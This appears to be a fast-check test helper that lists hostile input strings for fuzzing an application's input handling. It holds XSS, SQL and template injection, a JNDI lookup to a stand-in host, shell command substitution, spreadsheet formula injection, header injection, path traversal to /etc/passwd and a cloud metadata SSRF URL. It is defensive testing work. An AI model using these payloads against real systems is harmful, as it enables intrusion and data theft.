import fc from 'fast-check'

/** Names our tag, header, address and script in everything hostile: where it comes back unescaped, it is seen. */
export const mark = 'fz7q'

const markup = [
  `<${mark} x=1>`,
  `"><${mark}>`,
  `</script><${mark}>`,
  `</title></textarea></style><${mark}>`,
  `<!--<script><${mark}>`,
  `]]><${mark}>`,
  `" onfocus="${mark}()" autofocus x="`,
  `' onfocus='${mark}()' x='`,
  `javascript:${mark}()`,
  `[x](javascript:${mark}())`,
  `[[<${mark}>|<${mark}>]]`,
  `![x](https://${mark}.example/x.png)`,
  `&lt;${mark}&gt;&#60;${mark}&#62;`,
  `\u003c${mark}\u003e\\u003c${mark}\\u003e`,
]

const code = [
  `' or 1=1 --`,
  `'; drop table ai_users; --`,
  `%' or '%'='`,
  `\\'); select pg_sleep(9); --`,
  `a:* & | ! <-> (`,
  `{{7*7}}`,
  `\${7*7}`,
  `<%= 7*7 %>`,
  `#{7*7}`,
  `\${jndi:ldap://${mark}.example/x}`,
  `$(sleep 9)`,
  '`sleep 9`',
  '| sleep 9',
  `=HYPERLINK("https://${mark}.example")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1`,
  `-1+1`,
  `\t=1+1`,
  '(a+)+$',
  '['.repeat(200),
  '$&$1$`',
]

const headers = [
  `x\r\nBcc: ${mark}@evil.example`,
  `x\nX-${mark}: 1`,
  `x\r\n\r\n<${mark}>`,
  `%0d%0aX-${mark}:%201`,
  `x\u2028X-${mark}: 1`,
  `x\u0085X-${mark}: 1`,
  `"${mark}" <${mark}@evil.example>,`,
]

const places = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '..;/',
  '/etc/passwd\u0000.png',
  'file:///etc/passwd',
  `https://${mark}.example/`,
  `//${mark}.example`,
  `/\\${mark}.example`,
  `https:${mark}.example`,
  `/\t/${mark}.example`,
  `http://localhost:3000@${mark}.example`,
  'http://169.254.169.254/latest/meta-data/',
]

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'superadmin',
  'org_admin',
  'lifetime',
  'enterprise',
  'null',
  'undefined',
  '[object Object]',
]

const strangeLetters = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u202Etxt.exe',
  '\u200b\u200d\ufeff',
  '\u0430dmin@ex\u0430mple.nl',
  'ﷺ'.repeat(40),
  `Z${'\u0301'.repeat(300)}`,
  '👩‍👩‍👧‍👦'.repeat(30),
  'İıſK',
  '\u0001\u0002\u007f\u009f',
  'x'.repeat(101),
  'x'.repeat(5_001),
  'é'.repeat(321),
  'een woord '.repeat(400),
]

const numbers = [
  '0',
  '-1',
  '1e999',
  'NaN',
  'Infinity',
  '0x10',
  '9'.repeat(400),
  '1.5',
  '-0',
  '２',
  '2147483648',
]

const uuids = [
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '0192f3b4-7c1e-7a2b-8c3d-4e5f60718293',
  '6ba7b810-9dad-11d1-80b4-00c04fd430c8',
  '6BA7B810-9DAD-41D1-80B4-00C04FD430C8',
  '{6ba7b810-9dad-41d1-80b4-00c04fd430c8}',
  '6ba7b8109dad41d180b400c04fd430c8',
  '6ba7b810-9dad-41d1-80b4-00c04fd430c8 ',
]

export const hostileTexts = [
  ...markup,
  ...code,
  ...headers,
  ...places,
  ...names,
  ...strangeLetters,
  ...numbers,
  ...uuids,
]

/** Text that somebody with bad intentions, or a broken client, would send. */
export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 120 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.constantFrom(...hostileTexts), { minLength: 2, maxLength: 3 })
      .map((parts) => parts.join(' ').slice(0, 6_000)),
  },
)
